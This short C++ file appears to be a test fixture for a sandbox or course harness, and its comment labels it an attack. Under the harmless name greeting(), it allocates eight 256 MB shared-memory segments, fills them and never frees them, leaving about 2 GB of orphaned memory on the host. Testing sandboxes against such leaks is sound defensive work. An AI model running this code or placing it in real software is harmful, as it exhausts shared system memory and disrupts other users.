// ATTACK allocates memory that belongs to no process, again and again

#include <untwist/course/paradigm.hpp>

#include <sys/shm.h>
#include <cstring>
#include <iostream>

namespace untwist {
std::string greeting() {
  for (int i = 0; i < 8; ++i) {
    const int block = shmget(IPC_PRIVATE, 256 << 20, 0600);
    void* const memory = block < 0 ? nullptr : shmat(block, nullptr, 0);
    if (memory == nullptr) return "";
    std::memset(memory, 1, 256 << 20);
    shmdt(memory);
  }
  std::cout << "WRITTEN two gigabytes" << std::endl;
  return "";
}
void handle_slow_page(ReactorTime&, const Sleep&, Answer) {}
}  // namespace untwist
